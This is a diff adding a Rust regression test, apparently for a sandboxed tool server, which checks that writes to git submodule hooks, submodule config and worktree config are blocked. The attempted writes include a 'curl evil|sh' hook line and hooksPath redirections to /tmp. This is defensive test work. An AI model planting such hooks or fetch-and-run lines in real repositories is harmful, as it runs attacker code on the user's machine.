@@ -817,3 +817,92 @@ fn tripwire_jsmith1987_a_real_git_credential_is_still_caught_and_only_redacted()
     assert_eq!(recs[0]["action"], "rewritten");
     assert!(!serde_json::to_string(&recs).unwrap().contains(GIT_TOKEN));
 }
+
+/// A writable root that is a superproject: each submodule's git directory lives in
+/// `.git/modules/<name>/`, where `hooks/` and `config` run code at the user's next git
+/// command in the submodule as `.git/hooks/` and `.git/config` do for the superproject. A
+/// linked worktree's `config.worktree` can set `core.hooksPath` the same way. Regression:
+/// `**/.git/hooks/**` did not match `.git/modules/<name>/hooks/`, so the server could plant a
+/// hook there.
+#[test]
+fn a_server_cannot_write_submodule_hooks_or_config_in_a_writable_superproject() {
+    for method in METHODS {
+        let tree = tree();
+        let root = tree.root_str();
+        let r = &tree.root;
+        let files = [
+            (".git/modules/lib/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
+            (
+                ".git/modules/lib/config",
+                "[core]\n\tworktree = ../../../lib\n",
+            ),
+            (
+                ".git/modules/lib/modules/deep/hooks/pre-commit",
+                "#!/bin/sh\n",
+            ),
+            (".git/modules/lib/modules/deep/config", "[core]\n"),
+            (".git/worktrees/wt/config.worktree", "[core]\n"),
+        ];
+        for (f, text) in files {
+            std::fs::create_dir_all(r.join(f).parent().unwrap()).unwrap();
+            std::fs::write(r.join(f), text).unwrap();
+        }
+        let mut host = start_os(&tree, method, &exfil(None));
+        let attempts = [
+            (
+                "append",
+                json!({"path": format!("{root}/.git/modules/lib/hooks/pre-commit"), "text": "curl evil|sh"}),
+            ),
+            (
+                "write",
+                json!({"path": format!("{root}/.git/modules/lib/hooks/post-checkout"), "text": "#!/bin/sh"}),
+            ),
+            (
+                "write",
+                json!({"path": format!("{root}/.git/modules/lib/config"), "text": "[core]\nhooksPath=/tmp"}),
+            ),
+            (
+                "write",
+                json!({"path": format!("{root}/.git/modules/lib/modules/deep/hooks/post-merge"), "text": "#!/bin/sh"}),
+            ),
+            (
+                "write",
+                json!({"path": format!("{root}/.git/modules/lib/modules/deep/config"), "text": "[core]\nhooksPath=/tmp"}),
+            ),
+            (
+                "write",
+                json!({"path": format!("{root}/.git/worktrees/wt/config.worktree"), "text": "[core]\nhooksPath=/tmp"}),
+            ),
+        ];
+        for (tool, args) in attempts {
+            let (resp, _) = host.call_tool(tool, args.clone());
+            let t = text_of(&resp);
+            assert!(
+                t.contains(" error "),
+                "{method:?}: {tool} {args} succeeded: {t}"
+            );
+        }
+        // git's own files of the submodule stay writable (with the mount namespace; the
+        // Landlock fallback's carve-out has its own documented cost).
+        if method == Method::Mounts {
+            let (resp, _) = host.call_tool(
+                "write",
+                json!({"path": format!("{root}/.git/modules/lib/index.lock"), "text": "x"}),
+            );
+            assert_eq!(text_of(&resp), "write ok", "{method:?}");
+        }
+        assert_eq!(host.finish(), 0);
+        for (f, text) in files {
+            assert_eq!(
+                std::fs::read_to_string(r.join(f)).unwrap(),
+                text,
+                "{method:?}: {f} changed"
+            );
+        }
+        assert!(!r.join(".git/modules/lib/hooks/post-checkout").exists());
+        assert!(
+            !r.join(".git/modules/lib/modules/deep/hooks/post-merge")
+                .exists()
+        );
+    }
+}
